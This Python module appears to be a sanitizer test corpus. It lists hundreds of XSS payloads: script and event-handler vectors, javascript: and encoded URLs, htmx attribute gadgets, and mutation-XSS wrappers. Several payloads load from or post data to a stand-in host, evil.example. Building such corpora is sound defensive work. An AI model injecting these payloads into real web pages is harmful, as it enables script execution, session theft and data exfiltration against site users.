"""Hostile HTML: hand-picked vectors, and the same in wrappers that make parsers change their minds (mutation XSS).

Every payload, if it worked, would open a dialog, load something from `evil.example` or go there.
"""

from __future__ import annotations

HIT = "alert(document.domain)"
LEAK = "//evil.example/x"

_EVENTS = "onerror onload onclick onmouseover onfocus onbegin ontoggle onstart onpageshow onanimationstart onwheel onpointerenter oncut onscroll onauxclick".split()
_TAGS = "img svg body video audio iframe details input marquee object embed math a div style script link form button select textarea table isindex".split()

PLAIN = [
    f"<script>{HIT}</script>", f"<script src={LEAK}></script>", f"<SCRIPT/XSS SRC='{LEAK}'></SCRIPT>", f"<<script>{HIT}//<</script>",
    f"<img src=x onerror={HIT}>", f"<img src=x:x onerror={HIT}//", f"<img/src/onerror={HIT}>", f"<img src='{LEAK}'>", f"<img srcset='{LEAK} 1x'>",
    f"<svg onload={HIT}>", f"<svg/onload={HIT}>", f"<svg><script>{HIT}</script></svg>", f"<svg><script href='{LEAK}'/></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>", f"<svg><set attributeName=href to=javascript:{HIT}>", f"<svg><use href='{LEAK}#x'/></svg>",
    f"<svg><foreignObject><iframe onload={HIT}></foreignObject></svg>", f"<svg><image href='{LEAK}'/></svg>", f"<svg><a href=javascript:{HIT}><text>x</text></a></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{HIT}>x</maction></math>", f"<math href=javascript:{HIT}>x</math>",
    f"<iframe src=javascript:{HIT}></iframe>", f"<iframe srcdoc='<script>{HIT}</script>'></iframe>", f"<iframe src='{LEAK}'></iframe>",
    f"<object data=javascript:{HIT}></object>", f"<object data='{LEAK}'></object>", f"<embed src=javascript:{HIT}>", f"<embed src='{LEAK}'>",
    f"<body onload={HIT}>", f"<body background='{LEAK}'>", f"<link rel=stylesheet href='{LEAK}'>", f"<link rel=prefetch href='{LEAK}'>",
    f"<link rel=dns-prefetch href='{LEAK}'>", f"<link rel=modulepreload href='{LEAK}'>", f"<meta http-equiv=refresh content='0;url={LEAK}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>", f"<meta http-equiv=Set-Cookie content='a=b'><meta name=referrer content=unsafe-url><img src='{LEAK}'>",
    f"<base href='{LEAK}'><img src=x>", f"<base href=javascript:{HIT}//>", f"<style>@import '{LEAK}';</style>", f"<style>*{{background:url({LEAK})}}</style>",
    f"<div style=\"background:url('{LEAK}')\">x</div>", f"<div style='behavior:url({LEAK})'>x</div>", f"<div style='width:expression({HIT})'>x</div>",
    f"<p style='background-image:\\75rl({LEAK})'>x</p>", f"<table background='{LEAK}'><td background='{LEAK}'>x", f"<input type=image src='{LEAK}'>",
    f"<input autofocus onfocus={HIT}>", f"<select autofocus onfocus={HIT}>", f"<textarea autofocus onfocus={HIT}>", f"<keygen autofocus onfocus={HIT}>",
    f"<button autofocus onfocus={HIT}>", f"<a autofocus href=# onfocus={HIT}>x</a>", f"<details open ontoggle={HIT}>", f"<marquee onstart={HIT}>x</marquee>",
    f"<video src=x onerror={HIT}>", f"<video><source onerror={HIT}></video>", f"<video poster='{LEAK}'></video>", f"<video src='{LEAK}' autoplay></video>",
    f"<audio src=x onerror={HIT}>", f"<audio src='{LEAK}' autoplay></audio>", f"<video><track default src='{LEAK}'></video>", f"<picture><source srcset='{LEAK}'><img src=x></picture>",
    f"<form action=javascript:{HIT}><button autofocus>x</form>", f"<form action='{LEAK}'><input name=a><button>x</button></form>", f"<isindex action=javascript:{HIT} type=image>",
    f"<button formaction=javascript:{HIT}>x</button>", f"<form id=x></form><button form=x formaction='{LEAK}'>x</button>",
    f"<a href=javascript:{HIT}>x</a>", f"<a href='&#106;avascript:{HIT}'>x</a>", f"<a href='java&#10;script:{HIT}'>x</a>", f"<a href='java\tscript:{HIT}'>x</a>",
    f"<a href='\x01javascript:{HIT}'>x</a>", f"<a href=' javascript:{HIT}'>x</a>", f"<a href='JaVaScRiPt:{HIT}'>x</a>", f"<a href='javascript&colon;{HIT}'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>", f"<a href='data:text/html,<script>{HIT}</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    f"<a href='view-source:{LEAK}'>x</a>", f"<a ping='{LEAK}' href=#>x</a>", f"<area href=javascript:{HIT}>", f"<map name=a><area shape=default href=javascript:{HIT}></map><img usemap=#a src=x>",
    f"<img src=\"x` `<script>{HIT}</script>\"` `>", f"<img src onerror /\" '\"= alt={HIT}//\">", "<img src=x onerror=\"&#x61;lert(1)\">", f"<img src='data:image/svg+xml,<svg onload={HIT} xmlns=http://www.w3.org/2000/svg>'>",
    f"<xml id=x><a><b>&lt;img src=x onerror={HIT}&gt;</b></a></xml>", f"<frameset onload={HIT}>", f"<frameset><frame src=javascript:{HIT}></frameset>", f"<applet code='{LEAK}'>",
    f"<template><script>{HIT}</script></template>", f"<slot name=x onclick={HIT}>", f"<dialog open onclose={HIT}>x</dialog>", f"<portal src='{LEAK}'>", f"<fencedframe src='{LEAK}'>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'></noscript>", f"<title><img src=x onerror={HIT}></title>", f"<textarea></textarea><img src=x onerror={HIT}>",
    f"<plaintext><img src=x onerror={HIT}>", f"<xmp><img src=x onerror={HIT}></xmp>", f"<noembed><img src=x onerror={HIT}></noembed>", f"<!--><img src=x onerror={HIT}>-->",
    f"<!--[if gte IE 4]><script>{HIT}</script><![endif]-->", f"<![CDATA[<img src=x onerror={HIT}>]]>", f"<?xml-stylesheet href='{LEAK}'?>", f"<!DOCTYPE x [<!ENTITY a '<script>{HIT}</script>'>]>&a;",
    f"<? foo=\"><script>{HIT}</script>\">", f"</p><script>{HIT}</script>", f"\"><script>{HIT}</script>", f"'><img src=x onerror={HIT}>", f"`><svg onload={HIT}>", f"]]><script>{HIT}</script>",
    f"%3Cscript%3E{HIT}%3C/script%3E", f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e", f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-", f"＜script＞{HIT}＜/script＞", f"<scr\0ipt>{HIT}</scr\0ipt>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>", f"<s\u200bcript>{HIT}</script>", f"<script\n>{HIT}</script\n>", f"<script >{HIT}</script >", f"<script\x0c>{HIT}</script>",
    f"<div id=x tabindex=0 onfocus={HIT}>x</div>", f"<x contenteditable onblur={HIT}>x</x>", "<img name=getElementById><a id=body>x</a>", "<form id=htmx><input id=config name=config></form>",
]  # fmt: skip
#: What htmx would take up if it were let in.
GADGETS = [
    f"<div {prefix}{name}>x</div>"
    for prefix in ("", "data-")
    for name in (
        f"hx-get='{LEAK}' hx-trigger=load", "hx-delete='/customer/1' hx-trigger=load", "hx-post='/sign-out/' hx-trigger='load delay:1ms'", f"hx-on:load='{HIT}'",
        f"hx-on::load='{HIT}'", f"hx-on-htmx-load='{HIT}'", f"hx-on='load: {HIT}'", f"hx-vals='js:{{a: {HIT}}}' hx-get=/ hx-trigger=load", f"hx-headers='js:{{a: {HIT}}}' hx-get=/ hx-trigger=load",
        f"hx-trigger='load[{HIT}]' hx-get=/", "hx-ext=x hx-get=/ hx-trigger=revealed", "hx-boost=true", "hx-get=/ hx-trigger='every 10ms'", "hx-swap-oob=true id=main", f"hx-request='js:{{a:{HIT}}}'",
        "hx-disinherit=* hx-get=/settings/ hx-target=body hx-trigger=load", "hx-sse='connect:/x'", "hx-ws='connect:/x'", "hx-push-url=/x hx-get=/ hx-trigger=load", "hx-include=* hx-post=//evil.example hx-trigger=load",
    )
]  # fmt: skip
EVERY = [f"<{tag} {event}={HIT} src=x href=x open autofocus style='animation-name:x'>x</{tag}>" for tag in _TAGS for event in _EVENTS[:9]]
#: Wrappers in which what was harmless text for one parse becomes markup in the next.
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style>{}--></style></mglyph></table></mtext></math>", "<svg></p><style><a id=\"</style>{}\"></style></svg>",
    "<math><mtext><mglyph><svg><mtext><textarea><path id=\"</textarea>{}\"></textarea></mtext></svg></mglyph></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math>{}</style></mglyph></form></mtext></math>", "<noscript><style></noscript>{}</style></noscript>",
    "<svg><title><style><img title=\"</style></title>{}\"></style></title></svg>", "<p title=\"</p>{}\">x</p>", "<listing>&lt;{}</listing>", "<select><template><style><!--</style>{}--></template></select>",
    "<table><td><svg><desc><td></desc>{}</svg></table>", "<svg><annotation-xml encoding=text/html>{}</annotation-xml></svg>", "<math><annotation-xml encoding='text/html'><style></math>{}</style></annotation-xml></math>",
    "<div>" * 300 + "{}" + "</div>" * 300, "<b><i>" * 60 + "<table><b>{}</table>", "<a><a><svg><a>{}</a></svg></a></a>", "<!-- --!>{}<!-- -->", "<style>/*</style>{}*/", "<xmp></xmp>{}<xmp>",
]  # fmt: skip
_CORE = [f"<img src=x onerror={HIT}>", f"<script>{HIT}</script>", f"<svg onload={HIT}></svg>", f"<a href=javascript:{HIT}>x</a>", f"<img src='{LEAK}'>", f"<iframe src='{LEAK}'></iframe>", f"<style>@import '{LEAK}'</style>"]  # fmt: skip

PAYLOADS: list[str] = [*PLAIN, *GADGETS, *EVERY, *(wrapper.replace("{}", core) for wrapper in MUTATIONS for core in _CORE)]
